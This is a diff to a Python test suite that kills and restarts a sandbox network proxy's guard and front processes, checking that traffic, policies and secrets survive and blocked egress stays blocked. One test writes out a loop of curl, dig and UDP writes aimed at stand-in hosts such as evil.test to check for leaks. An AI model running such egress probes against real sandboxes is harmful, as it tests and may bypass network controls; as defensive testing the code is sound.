@@ -30,49 +30,49 @@ class Death(attack.Case):
     def test_the_next_one_serves_who_comes(self, user):
         """Requests all the time, and guards that die. What was open is cut, and a name that was asked for just before
         is asked for again; nothing hangs."""
-        box = self.box(network=NAMES)
-        box.spawn("while [ ! -e /tmp/stop ]; do curl -s -m 30 -o /dev/null -w '%{http_code}\\n' http://a.test/who; "
-                  "done >/tmp/codes; "
-                  "echo done >>/tmp/codes")
+        sandbox = self.sandbox(network=NAMES)
+        sandbox.spawn("while [ ! -e /tmp/stop ]; do curl -s -m 30 -o /dev/null -w '%{http_code}\\n' http://a.test/who; "
+                      "done >/tmp/codes; "
+                      "echo done >>/tmp/codes")
         for _ in range(self.KILLS):
             seen = attack.bed.now()
             self.assertTrue(until(lambda: seen.requests(local=world.A)))
             self.kill_guard()
         seen = attack.bed.now()
         self.assertTrue(until(lambda: seen.requests(local=world.A)))
-        box.says("touch /tmp/stop")
-        self.assertTrue(until(lambda: "done" in box.says("cat /tmp/codes"), 40))
-        codes = box.says("cat /tmp/codes").split()
+        sandbox.says("touch /tmp/stop")
+        self.assertTrue(until(lambda: "done" in sandbox.says("cat /tmp/codes"), 40))
+        codes = sandbox.says("cat /tmp/codes").split()
         self.assertEqual(set(codes) - {"000"}, {"200", "done"})
         self.assertLessEqual(codes.count("000"), 2 * self.KILLS, codes)
 
     def test_a_connection_made_while_there_is_none_waits(self, user):
-        box = self.box(network=NAMES)
+        sandbox = self.sandbox(network=NAMES)
         old = attack.guard()
         os.kill(old, signal.SIGSTOP)  # it accepts nothing any more
         try:
-            waiting = threading.Thread(target=lambda: said.append(box.sh("curl -sS -m 40 http://a.test/who",
-                                                                         user=user)))
+            waiting = threading.Thread(target=lambda: said.append(sandbox.sh("curl -sS -m 40 http://a.test/who",
+                                                                             user=user)))
             said = []
             waiting.start()
-            until(lambda: "curl" in box.says("cat /proc/[0-9]*/comm 2>/dev/null; true"))
+            until(lambda: "curl" in sandbox.says("cat /proc/[0-9]*/comm 2>/dev/null; true"))
         finally:
             os.kill(old, signal.SIGKILL)
         waiting.join()
         self.assertIn('"who": "a"', said[0][1])
 
     def test_nothing_leaks_meanwhile(self, user):
-        box, blocked = self.box(network=NAMES), self.box(allow_internet_access=False)
+        sandbox, blocked = self.sandbox(network=NAMES), self.sandbox(allow_internet_access=False)
         attempts = (f"while :; do curl -s -m1 -o /dev/null http://{world.EVIL}/ & curl -s -m1 -o /dev/null "
                     f"http://evil.test/ & "
                     f"dig +tries=1 +time=1 x.evil.test @{world.EVIL} >/dev/null & echo x "
                     f">/dev/udp/{world.EVIL}/9999; wait; done")
-        for one in (box, blocked):
+        for one in (sandbox, blocked):
             one.spawn(attempts)
         with self.nothing():
             for _ in range(4):
                 self.kill_guard()
-        for one in (box, blocked):
+        for one in (sandbox, blocked):
             one.says("pkill -f 'while :'; true")
 
     def test_policies_and_secrets_are_known_to_the_next(self, user):
@@ -80,36 +80,36 @@ class Death(attack.Case):
                                                       "metadata": {"sandglass.hosts": "a.test"}})
         self.assertIn(answer.status, (200, 201), answer)
         rules = {"a.test": [{"transform": {"headers": {"X-Rule": f"${{e2b.secrets.kept-{user}}}"}}}]}
-        box = self.box(network=NAMES | {"rules": rules})
-        changed = self.box()
+        sandbox = self.sandbox(network=NAMES | {"rules": rules})
+        changed = self.sandbox()
         self.assertEqual(changed.network(**NAMES).status, 204)
-        self.sh(box, "curl -sS -m10 https://a.test/who", user)
+        self.sh(sandbox, "curl -sS -m10 https://a.test/who", user)
         self.kill_guard()
         with self.only(world.A, names=["a.test"]) as seen:
-            self.assertIn('"who": "a"', self.sh(box, "curl -sS -m20 https://a.test/who", user),
+            self.assertIn('"who": "a"', self.sh(sandbox, "curl -sS -m20 https://a.test/who", user),
                           "with the same certificate")
             self.assertIn("value-that-is-kept", str(seen.requests(local=world.A)))
             self.assertNotIn('"who"', changed.sh(f"curl -sS -m5 http://{world.EVIL}/", user=user)[1])
             self.assertIn('"who": "a"', self.sh(changed, "curl -sS -m20 http://a.test/who", user))
-        self.assertEqual(box.network(denyOut=["0.0.0.0/0"]).status, 204, "and it takes changes")
+        self.assertEqual(sandbox.network(denyOut=["0.0.0.0/0"]).status, 204, "and it takes changes")
         attack.site.api("DELETE", f"/secrets/kept-{user}")
 
     def test_the_front_dies_and_policies_stay(self, user):
-        box, blocked = self.box(network=NAMES), self.box(allow_internet_access=False)
+        sandbox, blocked = self.sandbox(network=NAMES), self.sandbox(allow_internet_access=False)
         before = attack.bed.now()
-        box.spawn("rm -f /tmp/ended; curl -sS -m 60 -o /dev/null http://a.test/forever; echo ended >/tmp/ended")
+        sandbox.spawn("rm -f /tmp/ended; curl -sS -m 60 -o /dev/null http://a.test/forever; echo ended >/tmp/ended")
         self.assertTrue(until(lambda: before.requests(target="/forever")))
         old = attack.site.front()
         os.kill(old, signal.SIGKILL)
         self.assertTrue(until(lambda: attack.child("sandglass-front") not in (None, old)))
         self.assertTrue(until(lambda: self.healthy()))
         with self.only(world.A, names=["a.test"]):
-            self.assertIn('"who": "a"', self.sh(box, "curl -sS -m10 http://a.test/who", user))
-            self.assertNotIn('"who"', box.sh(f"curl -sS -m5 http://{world.EVIL}/", user=user)[1])
+            self.assertIn('"who": "a"', self.sh(sandbox, "curl -sS -m10 http://a.test/who", user))
+            self.assertNotIn('"who"', sandbox.sh(f"curl -sS -m5 http://{world.EVIL}/", user=user)[1])
             self.assertEqual(blocked.sh(f"curl -sS -m5 http://{world.A}/", user=user)[0], 7)
-        self.assertNotIn("ended", box.says("cat /tmp/ended 2>/dev/null; true"), "what was open stays open")
-        self.assertEqual(box.network(allow_internet_access=False).status, 204)
-        self.assertTrue(until(lambda: "ended" in box.says("cat /tmp/ended 2>/dev/null; true")))
+        self.assertNotIn("ended", sandbox.says("cat /tmp/ended 2>/dev/null; true"), "what was open stays open")
+        self.assertEqual(sandbox.network(allow_internet_access=False).status, 204)
+        self.assertTrue(until(lambda: "ended" in sandbox.says("cat /tmp/ended 2>/dev/null; true")))
 
     def healthy(self):
         try:
@@ -118,7 +118,7 @@ class Death(attack.Case):
             return False
 
     def test_both_die_at_once(self, user):
-        box = self.box(network=NAMES)
+        sandbox = self.sandbox(network=NAMES)
         guard, front = attack.guard(), attack.site.front()
         os.kill(guard, signal.SIGKILL)
         os.kill(front, signal.SIGKILL)
@@ -127,8 +127,8 @@ class Death(attack.Case):
                                                                                                                 front)))
         self.assertTrue(until(self.healthy))
         with self.only(world.A, names=["a.test"]):
-            self.assertIn('"who": "a"', self.sh(box, "curl -sS -m20 http://a.test/who", user))
-            self.assertNotIn('"who"', box.sh(f"curl -sS -m5 http://{world.EVIL}/", user=user)[1])
+            self.assertIn('"who": "a"', self.sh(sandbox, "curl -sS -m20 http://a.test/who", user))
+            self.assertNotIn('"who"', sandbox.sh(f"curl -sS -m5 http://{world.EVIL}/", user=user)[1])
 
 
 if __name__ == "__main__":
